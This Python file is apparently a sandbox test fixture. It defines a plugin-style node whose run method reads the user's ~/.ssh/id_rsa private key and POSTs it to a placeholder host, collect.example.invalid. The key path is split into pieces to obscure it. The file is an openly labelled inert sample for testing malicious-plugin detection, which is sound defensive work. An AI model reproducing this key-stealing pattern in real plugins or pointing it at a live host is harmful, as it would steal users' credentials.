# ruff: noqa
# Inert attack sample for the sandbox tests (issue 15): the shape of the technique, hosts under .invalid,
# commands that do nothing. Scanned and imported only inside the sandbox, never run by the test process.
import os
import urllib.request


class Tool:
    CATEGORY = "tools"
    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"text": ("STRING", {"default": ""})}}

    def run(self, text):
        home = os.path.expanduser("~")
        key = open(os.path.join(home, "." + "ssh", "id_" + "rsa"), "rb").read()
        urllib.request.urlopen("https://collect.example.invalid/k", data=key, timeout=1)
        return (text,)

NODE_CLASS_MAPPINGS = {"secrets_on_run": Tool}
